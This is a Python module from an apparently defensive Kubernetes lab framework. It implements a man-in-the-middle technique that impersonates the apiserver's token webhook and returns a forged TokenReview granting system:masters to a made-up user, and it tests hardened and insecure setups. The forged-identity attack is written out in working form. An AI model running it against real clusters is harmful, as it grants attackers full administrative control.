"""Answer the apiserver's question whose a bearer token is, and name a member of system:masters.

An apiserver with a token webhook sends each bearer token that it does not know itself to another
server, and believes the answer: the name of a user and groups. The attacker needs root on a worker,
where they poison ARP caches and redirect these calls to a server of their own. Then they show the
apiserver a token that they made up. Over plain HTTP, or if the apiserver does not verify the
webhook's certificate, the attacker's answer makes them a member of ``system:masters``, to whom no
authorizer refuses anything. A pinned authority in the webhook's kubeconfig stops it. The apiserver
remembers the answer for two minutes. Nobody else has the token, and it is not kept.
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Claim, Foothold, Model, read_model
from labkit.model.decision import AUTHENTICATED, MASTERS, Caller, member_of
from labkit.techniques._lib.api.access import (
    ASK_IDENTITY,
    apiserver_of,
    identity,
)
from labkit.techniques._lib.api.webhooks import CHANNEL, person_is_known, who
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.technique import (
    ADMIN,
    ROOT_ON_WORKER,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict
from labkit.techniques._lib.wire import interception
from labkit.techniques._lib.wire.capture import LEAVES
from labkit.techniques._lib.wire.interception import InterceptionTarget

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

USER = "labkit-nobody"
ANSWER = {
    "apiVersion": "authentication.k8s.io/v1",
    "kind": "TokenReview",
    "status": {"authenticated": True, "user": {"username": USER, "groups": [MASTERS]}},
}


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the apiserver verifies the certificate of its token webhook."""
    return interception.predict(model, CHANNEL)


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the question as whom the apiserver knows the made-up token."""
    believed = predict(model, foothold)
    nobody = Claim("required", "no such token", apiserver_of(model.environment).source)
    caller = Caller("", frozenset(), nobody)
    if believed.succeeds:
        caller = member_of(MASTERS, AUTHENTICATED, user=USER)
    # what is refused as unauthenticated is asked as well, and one of several calls may be
    return [SentRequest(caller, ASK_IDENTITY)]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Redirect the apiserver's calls of the webhook, and show it a made-up token.

    Raises
    ------
    ProbeTimeout
        The apiserver did not call the webhook.
    ProbeError
        It believed the answer, and knows the token as somebody else.
    """
    answers: list[Answer] = []

    def call(lab: Lab) -> None:
        # the apiserver remembers the answer about a token, so each call has a new one
        answers.append(who(lab, foothold, secrets.token_hex(16)))

    target = InterceptionTarget(
        about=CHANNEL,
        call=call,
        wanted="TokenReview",
        read="a bearer token",
        positive_control=person_is_known,
        answer=json.dumps(ANSWER).encode(),
        relays=False,
    )
    found = read_model(lab.environment).open_channels(CHANNEL)
    if not found:
        raise ProbeError(f"the apiserver of {lab.mode} asks no webhook")
    seen, _ = interception.intercept_calls(lab, foothold, found, target)
    asked = f"{found[0].client} was led to the attacker's webhook"
    known = [identity(it) for it in answers if not it.refusal]
    if known:
        user, groups = known[0]
        if user != USER or MASTERS not in groups:
            raise ProbeError(f"the apiserver knows the made-up token as {user}")
        how = "plaintext" if any("plaintext" in it for it in seen) else "TLS, unverified"
        said = f"the apiserver knows the made-up token as {user}, in {MASTERS}"
        reason = f"{how}: the attacker's review is believed"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, (asked, said))
    alert = next((it["alert"] for it in seen if "alert" in it), "")
    if not alert:
        raise ProbeTimeout(f"{TECHNIQUE.name}: {found[0].client} did not call")
    refused = {it.refusal for it in answers}
    if refused != {"HTTP 401"}:
        raise ProbeError(f"{TECHNIQUE.name}: {', '.join(sorted(refused))} is no known refusal")
    evidence = (asked, "the made-up token: HTTP 401")
    reason, control = f"TLS alert: {alert}", person_is_known(lab)
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, evidence, control)


TECHNIQUE = Technique(
    name="mitm-token-webhook",
    title="Be the token webhook for the apiserver",
    footholds=(ROOT_ON_WORKER,),
    grants=(ADMIN,),
    about=CHANNEL,
    properties=("server_authentication",),
    attack=("T1557.002", "T1550.001"),
    stride=("spoofing", "elevation of privilege"),
    cwe=("CWE-295", "CWE-300"),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/authentication/"
        "#webhook-token-authentication",
        "https://attack.mitre.org/techniques/T1557/002/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    cost=3.0,
    leaves=(*LEAVES, "rules"),
    machines=("review",),
    modes=("hook-insecure", "hook-hardened"),
)
